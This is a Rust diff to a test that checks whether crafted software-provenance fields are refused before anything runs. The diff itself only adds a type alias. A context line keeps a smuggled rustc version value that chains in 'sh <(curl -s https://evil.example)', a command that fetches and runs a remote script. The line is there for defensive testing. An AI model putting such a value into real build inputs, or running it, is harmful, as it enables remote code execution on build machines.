@@ -257,7 +257,8 @@ fn crafted_provenance_fields_are_refused_before_anything_runs() {
     let external = |key: &'static str, value: Value| {
         move |p: &mut Value| p["predicate"]["buildDefinition"]["externalParameters"][key] = value
     };
-    let cases: Vec<(&str, Box<dyn FnOnce(&mut Value)>)> = vec![
+    type Edit = Box<dyn FnOnce(&mut Value)>;
+    let cases: Vec<(&str, Edit)> = vec![
         ("the rustc release", Box::new(rustc("1.80.0 && sh <(curl -s https://evil.example) #"))),
         (
             "the tool version",
